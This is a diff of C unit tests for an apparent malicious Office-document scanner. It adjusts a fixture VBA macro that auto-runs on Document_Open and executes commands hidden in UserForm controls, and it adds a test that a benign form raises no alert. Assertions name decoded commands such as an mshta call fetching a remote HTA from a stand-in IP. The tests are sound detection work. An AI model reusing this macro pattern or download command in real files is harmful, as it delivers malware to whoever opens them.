@@ -150,7 +150,7 @@ static void test_userform_strings(void **state)
          "Attribute VB_Name = \"ThisDocument\"\r\n"
          "Sub Document_Open()\r\n"
          "  Set o = CreateObject(UserForm1.TextBox1.Tag)\r\n"
-         "  c = UserForm1.TextBox2.Text\r\n"
+         "  c = UserForm1.TextBox2.Text & \" & exit\"\r\n"
          "  p = Replace(UserForm1.Label1.Caption, \"|junk|\", \"\") & \" -c calc\"\r\n"
          "  g = Join(Split(UserForm1.Opt1.GroupName, \"|junk|\"), \"\")\r\n"
          "  o.Run c, 0\r\n"
@@ -165,6 +165,31 @@ static void test_userform_strings(void **state)
     assert_non_null(strstr(dec, "cmd /c echo form-held command"));
     assert_non_null(strstr(dec, "powershell -c calc"));
     assert_non_null(strstr(dec, "mshta http://192.0.2.5/x.hta"));
+    eg_report_free(r);
+    eg_buf_free(&f);
+    eg_buf_free(&o);
+}
+
+/* a benign form reading its own label on Initialize: the caption is no decoded command */
+static void test_userform_benign(void **state)
+{
+    (void)state;
+    eg_fx_control ctl[] = {{"Label1", 21, NULL, NULL, NULL, "Shell Oil price list, run weekly", NULL}};
+    eg_buf f, o;
+    eg_buf_init(&f, 0);
+    eg_buf_init(&o, 0);
+    eg_fx_oform(ctl, 1, &f, &o);
+    eg_fx_stream extra[] = {{"UserForm1/f", f.data, f.len}, {"UserForm1/o", o.data, o.len}};
+    eg_fx_module m[] = {{"UserForm1",
+                         "Attribute VB_Name = \"UserForm1\"\r\n"
+                         "Private Sub UserForm_Initialize()\r\n"
+                         "  t = UserForm1.Label1.Caption\r\n"
+                         "  Me.Caption = t\r\n"
+                         "End Sub\r\n",
+                         true, NULL}};
+    eg_report *r = scan_ex(m, 1, 1252, extra, 2, EG_FX_VBA_XLS, "prices.xls");
+    assert_false(eg_report_has_rule(r, "VBA.EXECUTION"));
+    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
     eg_report_free(r);
     eg_buf_free(&f);
     eg_buf_free(&o);
@@ -393,7 +418,7 @@ int main(void)
         cmocka_unit_test(test_case_insensitive),      cmocka_unit_test(test_userform_strings),
         cmocka_unit_test(test_oform_parse),           cmocka_unit_test(test_decoder_functions),
         cmocka_unit_test(test_stomping_control_name), cmocka_unit_test(test_call_shapes),
-        cmocka_unit_test(test_document_text),
+        cmocka_unit_test(test_document_text),       cmocka_unit_test(test_userform_benign),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
